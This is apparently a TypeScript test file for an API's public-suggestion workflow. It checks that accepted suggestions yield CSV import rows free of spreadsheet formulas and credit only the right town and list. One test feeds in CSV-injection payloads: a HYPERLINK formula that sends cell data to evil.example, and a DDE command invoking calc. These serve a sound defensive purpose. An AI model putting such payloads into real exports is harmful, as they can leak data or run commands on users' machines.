import { describe, expect, it } from 'vitest';
import { parseCsv } from '../csv-reader.ts';
import { request, TOWN } from '../helpers.ts';
import { ADDITION, admin, CORRECTION, EDITOR, send } from '../suggestion-helpers.ts';

/**
 * A hostile pass over the public suggestions (issue 14): what an outsider and a
 * staff member of the wrong role can do with them, each answered by a test.
 */
const OTHER_TOWN = 'beijing-xiaotangshanzhen';
const importCsv = (csv: string) => request('POST', '/api/v1/admin/imports?dry_run=true', { headers: { Authorization: `Bearer ${EDITOR}`, 'Content-Type': 'text/csv' }, body: csv });

const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
/** Cells a spreadsheet would evaluate (OWASP "CSV injection"), as test/api/csv-injection.test.ts finds them. */
const formulaCells = (csv: string) =>
  parseCsv(csv)
    .slice(1)
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell));

describe('the import row an acceptance prefills', () => {
  it('never hands staff a spreadsheet formula, and the import still reads the text as the sender wrote it', async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"尼山镇")';
    const detail = "-2+3+cmd|' /C calc'!A0 未收录";
    const receipt = await send({ ...ADDITION, town_name: name, detail });
    const res = await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`);
    expect(res.status).toBe(200);
    const { csv } = await res.json<{ csv: string }>();
    expect(formulaCells(csv)).toEqual([]);
    // Sent to the import as it is, the row names the town and the note the sender gave, not a `'`-prefixed copy.
    const report = await (await importCsv(csv)).json<{ problems: { code: string; column: string | null; detail: string }[] }>();
    const unknown = report.problems.find((p) => p.code === 'unknown-town');
    expect(unknown?.detail).toContain(`No town "${name}"`);
    expect(report.problems.filter((p) => p.column === 'note')).toEqual([]);
  });
});

describe('crediting the public through the import', () => {
  const row = (town: string, list: string, suggestion: string) => `town,list,status,effective_date,document,suggestion\n${town},${list},retained,2020-06-30,建村〔2016〕221号,${suggestion}\n`;

  it('credits an accepted suggestion only on the list and town it was about', async () => {
    const receipt = await send({ ...CORRECTION, proposed_status: 'retained', proposed_date: '2020-06-30', source: '建村〔2016〕221号' });
    expect((await admin(EDITOR, 'POST', `/api/v1/admin/suggestions/${receipt}/accept`)).status).toBe(200);
    const problems = async (csv: string) => (await (await importCsv(csv)).json<{ problems: { code: string; column: string | null }[] }>()).problems.filter((p) => p.column === 'suggestion');
    // Its own row: nothing to say about the credit.
    expect(await problems(row(TOWN, 'mohurd-2016-batch1', receipt))).toEqual([]);
    // Another list, or another town: the public did not suggest that event.
    expect(await problems(row(TOWN, 'mohurd-2017-batch2', receipt))).not.toEqual([]);
    expect(await problems(row(OTHER_TOWN, 'mohurd-2016-batch1', receipt))).not.toEqual([]);
  });
});
